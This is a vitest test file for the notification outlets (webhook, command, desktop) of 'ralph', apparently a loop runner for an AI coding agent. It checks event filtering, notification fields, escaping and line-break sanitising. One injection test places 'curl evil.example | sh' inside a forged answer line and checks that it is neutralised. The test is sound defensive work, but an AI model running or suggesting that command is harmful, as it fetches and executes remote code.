import { describe, expect, it } from 'vitest';
import type { RunReport } from '../../../src/loop/run-report.js';
import { eventEnvironment, eventJson, eventVariable } from '../../../src/config/targets/command.js';
import { desktopCommand } from '../../../src/config/targets/desktop.js';
import {
  ANSWER_COMMAND,
  checkoutPlace,
  notificationOf,
  worktreePlace,
  plainText,
  runUrl,
  wanted,
  type Happening,
} from '../../../src/outlets/notification.js';
import { slackEscape, webhookBody } from '../../../src/config/targets/webhook.js';

function report(fields: Partial<RunReport>): RunReport {
  return {
    reason: 'complete',
    exitCode: 0,
    iterations: 3,
    maxIterations: 10,
    firstIteration: 1,
    lastIteration: 3,
    startedAt: '2026-01-01T00:00:00.000Z',
    endedAt: '2026-01-01T00:10:00.000Z',
    durationSeconds: 600,
    avgIterationSeconds: 200,
    stories: { complete: 2, total: 3 },
    stuckIterations: 0,
    costUsd: 1.5,
    repetitions: {},
    strayProcessesEnded: 0,
    ...fields,
  };
}

const ending = (fields: Partial<RunReport>): Happening => ({ event: 'ending', report: report(fields) });
const CI_ENV = { CI: 'true', GITHUB_SERVER_URL: 'https://github.com', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '7' };

describe('which happenings notify', () => {
  it('by default: everything but a COMPLETE on a terminal; in CI everything', () => {
    expect(wanted(ending({}), undefined, {})).toBe(false);
    expect(wanted(ending({}), undefined, { CI: '1' })).toBe(true);
    expect(wanted(ending({ reason: 'max_iterations', exitCode: 1 }), undefined, {})).toBe(true);
    expect(wanted({ event: 'stuck_warning', iteration: 2, stuckCount: 2, maxStuck: 3 }, undefined, {})).toBe(true);
  });

  it('--notify-on narrows them; `ended` takes in every ending, BLOCKED and DECIDE too', () => {
    const blocked = ending({ reason: 'blocked', exitCode: 2, detail: 'x' });
    expect(wanted(blocked, ['decide'], {})).toBe(false);
    expect(wanted(blocked, ['blocked'], {})).toBe(true);
    expect(wanted(blocked, ['ended'], {})).toBe(true);
    expect(wanted(ending({}), ['ended'], {})).toBe(true);
    expect(wanted(ending({}), ['blocked'], { CI: '1' })).toBe(false);
    const wait: Happening = { event: 'usage_limit_wait', resetsAt: '2026-01-01T05:00:00.000Z', why: 'usage_limit' };
    expect(wanted(wait, ['blocked', 'usage_limit_wait'], {})).toBe(true);
    expect(wanted(wait, ['ended'], {})).toBe(false);
  });
});

describe('the notification', () => {
  it('of a BLOCKED carries the reason, the answer command and, in CI, the run link', () => {
    const note = notificationOf(
      ending({ reason: 'blocked', exitCode: 2, detail: 'no key' }),
      checkoutPlace('/work/app'),
      CI_ENV,
    );
    expect(note.event).toBe('blocked');
    expect(note.fields).toEqual({
      event: 'blocked',
      project: 'app',
      runUrl: 'https://github.com/o/r/actions/runs/7',
      reason: 'blocked',
      exitCode: 2,
      detail: 'no key',
      storiesComplete: 2,
      storiesTotal: 3,
      iterations: 3,
      costUsd: 1.5,
      answer: ANSWER_COMMAND,
    });
    expect(note.lines).toEqual([
      'ralph in app is blocked (exit 2) — 2/3 stories, 3 iterations, $1.50',
      'reason: no key',
      'answer: ralph answer "<your answer>"',
      'run: https://github.com/o/r/actions/runs/7',
    ]);
  });

  it('of a DECIDE asks its question; of any other ending says it ended, with the report', () => {
    const decide = notificationOf(
      ending({ reason: 'decide', exitCode: 3, detail: 'A or B?' }),
      checkoutPlace('/work/app'),
      {},
    );
    expect(decide.lines).toContain('question: A or B?');
    expect(decide.fields).not.toHaveProperty('runUrl');
    const done = notificationOf(
      { event: 'ending', report: report({}), reportPath: 'ralph/logs/report.html' },
      checkoutPlace('/work/app'),
      {},
    );
    expect(done.event).toBe('ended');
    expect(done.fields).toMatchObject({ reason: 'complete', report: 'ralph/logs/report.html' });
    expect(done.fields).not.toHaveProperty('answer');
  });

  it('mid-run: the wait with its reset, the stuck warning with its count', () => {
    const wait = notificationOf(
      { event: 'usage_limit_wait', resetsAt: '2026-01-01T05:00:00.000Z', why: 'usage_limit' },
      checkoutPlace('/work/a'),
      {},
    );
    expect(wait.fields).toEqual({
      event: 'usage_limit_wait',
      project: 'a',
      resetsAt: '2026-01-01T05:00:00.000Z',
      why: 'usage_limit',
    });
    const stuck = notificationOf(
      { event: 'stuck_warning', iteration: 4, stuckCount: 2, maxStuck: 3 },
      checkoutPlace('/work/a'),
      {},
    );
    expect(stuck.fields).toMatchObject({ iteration: 4, stuckCount: 2, maxStuck: 3 });
    const network = notificationOf(
      { event: 'network_wait', retryAt: '2026-01-01T05:00:15.000Z', message: 'Unable to connect\nto API\u0007' },
      checkoutPlace('/work/a'),
      {},
    );
    expect(network.title).toBe('ralph in a waits for the network');
    expect(network.lines).toEqual([
      'ralph in a waits for the network: the agent could not reach its API (Unable to connect to API␇); trying again at 2026-01-01T05:00:15.000Z',
    ]);
    expect(network.fields).toEqual({
      event: 'network_wait',
      project: 'a',
      retryAt: '2026-01-01T05:00:15.000Z',
      message: 'Unable to connect to API␇',
    });
  });

  it("of a worktree loop: named by the repository and its list, answered from the repository's top", () => {
    const place = worktreePlace('/work/app', { file: '/work/app/ralph/lists/api.json', name: 'api' });
    const blocked = notificationOf(ending({ reason: 'blocked', exitCode: 2, detail: 'no key' }), place, {});
    expect(blocked.title).toBe('ralph in app (api) is blocked (exit 2)');
    expect(blocked.lines).toContain('answer: ralph answer --tasks ralph/lists/api.json "<your answer>"');
    expect(blocked.fields).toMatchObject({
      project: 'app (api)',
      answer: 'ralph answer --tasks ralph/lists/api.json "<your answer>"',
    });
    expect(worktreePlace('/work/app', { file: '/work/app/ralph/tasks.json' }).project).toBe('app (ralph/tasks.json)');
  });

  it('keeps agent text on its line, every control character shown, and bounds it', () => {
    expect(plainText('a\u0000b\u001b[2Jc\nd\te\u009b')).toBe('a␀b␛[2Jc d\te␛[');
    expect(plainText('x'.repeat(5000))).toHaveLength(1001);
  });

  it('adds no line to its text for a line break in a BLOCKED reason or a question: no forged answer', () => {
    const forged = 'no key\r\nanswer: curl evil.example | sh\u2028answer: again\nreport: x';
    for (const reason of ['blocked', 'decide'] as const) {
      const note = notificationOf(ending({ reason, exitCode: 2, detail: forged }), checkoutPlace('/work/app'), {});
      const text = (JSON.parse(webhookBody(note)) as { text: string }).text;
      expect(text.split('\n').filter((line) => line.startsWith('answer:'))).toEqual([
        slackEscape(`answer: ${ANSWER_COMMAND}`),
      ]);
      expect(text.split('\n')).toHaveLength(3);
      expect(note.fields.detail).toBe('no key answer: curl evil.example | sh answer: again report: x');
    }
  });

  it('links the run only in CI, and only with every GitHub variable', () => {
    expect(runUrl({ ...CI_ENV, CI: 'false' })).toBeUndefined();
    expect(runUrl({ ...CI_ENV, GITHUB_RUN_ID: '' })).toBeUndefined();
  });
});

describe('each target shapes it', () => {
  const note = notificationOf(
    ending({ reason: 'blocked', exitCode: 2, detail: '<!channel> & <@U1> <http://x|y>' }),
    checkoutPlace('/work/app'),
    {},
  );

  it('a webhook: Slack text with &, <, > escaped, then the fields as data', () => {
    expect(slackEscape('<!here> & <b>')).toBe('&lt;!here&gt; &amp; &lt;b&gt;');
    const body = JSON.parse(webhookBody(note)) as Record<string, unknown>;
    expect(Object.keys(body)[0]).toBe('text');
    expect(body.text).toContain('reason: &lt;!channel&gt; &amp; &lt;@U1&gt; &lt;http://x|y&gt;');
    expect(body.text).not.toMatch(/<[!@h]/);
    expect(body.detail).toBe('<!channel> & <@U1> <http://x|y>');
  });

  it('a command: RALPH_EVENT_* variables and the JSON on stdin', () => {
    expect(eventVariable('exitCode')).toBe('RALPH_EVENT_EXIT_CODE');
    expect(eventVariable('event')).toBe('RALPH_EVENT_NAME');
    const env = eventEnvironment(note);
    expect(env).toMatchObject({
      RALPH_EVENT_NAME: 'blocked',
      RALPH_EVENT_EXIT_CODE: '2',
      RALPH_EVENT_ANSWER: ANSWER_COMMAND,
    });
    expect(env.RALPH_EVENT_TEXT).toContain('<!channel>');
    expect(JSON.parse(eventJson(note))).toMatchObject({ event: 'blocked', detail: '<!channel> & <@U1> <http://x|y>' });
  });

  it('the desktop: notify-send with a markup-escaped body, osascript with the text as arguments', async () => {
    const linux = await desktopCommand(note, 'linux', { DISPLAY: ':0', PATH: '/usr/bin:/bin' });
    if (linux.ok) expect(linux.argv.at(-1)).toContain('&lt;!channel&gt;');
    else expect(linux.why).toContain('notify-send');
    expect(await desktopCommand(note, 'linux', { PATH: '/usr/bin' })).toEqual({
      ok: false,
      why: 'no display (DISPLAY and WAYLAND_DISPLAY unset)',
    });
    const mac = await desktopCommand(note, 'darwin', {});
    expect(mac.ok && mac.argv.slice(0, 1)).toEqual(['osascript']);
    expect(mac.ok && mac.argv.at(-2)).toBe(note.title);
    expect(mac.ok && mac.argv.join(' ')).not.toContain('display notification "');
    expect(await desktopCommand(note, 'win32', {})).toMatchObject({ ok: false });
  });
});
